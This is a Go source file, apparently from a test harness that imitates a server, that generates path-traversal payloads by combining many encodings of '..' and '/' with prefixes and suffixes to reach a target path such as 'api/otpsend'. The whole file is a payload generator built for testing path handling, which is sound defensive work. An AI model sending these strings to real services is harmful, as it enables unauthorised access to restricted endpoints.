package functionshost

import (
	"slices"
	"strings"
)

// Encodings of two dots and of a slash, for different decoders. Only some of them work on
// the host that this package imitates.
var (
	dotDots = []string{
		"..", "%2e%2e", "%2E.", ".%2e", "%252e%252e", ".%252E", "%25252e%25252e", "%c0%ae%c0%ae", "%e0%80%ae.",
		"%EF%BC%8E%EF%BC%8E", "..;", "..%3Bx=1", "..%20", "..%0A", "..%09", "..%00", "..%2500", "...", "%2e%2e%2f%2e%2e",
	}
	slashes = []string{
		"/", "//", "/./", ";/", "%2F", "%2f", "%252F", "%25252f", "%5C", "%5c", "%255C", "%25255c", "%5C/", "/%5C", "%c0%af", "%c1%9c",
		"%e0%80%af", "%EF%BC%8F", "%EF%BC%BC", "%00/", "%0A/", "%0D%0A/",
	}
)

// Climbs lists texts that a client may append to a path that ends in a slash, to leave that
// many levels of folders and reach the target, like "api/otpsend".
func Climbs(levels int, target string) []string {
	var list []string
	for _, dots := range dotDots {
		for _, slash := range slashes {
			up := strings.Repeat(dots+slash, levels)
			list = append(list, up+target, up+strings.ReplaceAll(target, "/", slash))
		}
	}
	// Texts before and after the climb.
	for _, up := range []string{"../", "..%5C", "%252e%252e/", "%252e%252e%5C"} {
		whole := strings.Repeat(up, levels) + target
		for _, before := range []string{"x%5C..%5C", "x/../", "%20", "%0A", "x%3F", "x%23", "%5C", "%2F", ".%5C", "%252e/"} {
			list = append(list, before+whole)
		}
		for _, after := range []string{"/", "%5C", "%20", "%0A", "%3F", "%23", "%3Fx=1", "?x=1", "?", ";x", "%00", "/.", "%2F"} {
			list = append(list, whole+after)
		}
		list = append(list, strings.Repeat(up, levels)+strings.ToUpper(target), strings.Repeat(up, levels+3)+target)
	}
	slices.Sort(list)
	return slices.Compact(list)
}
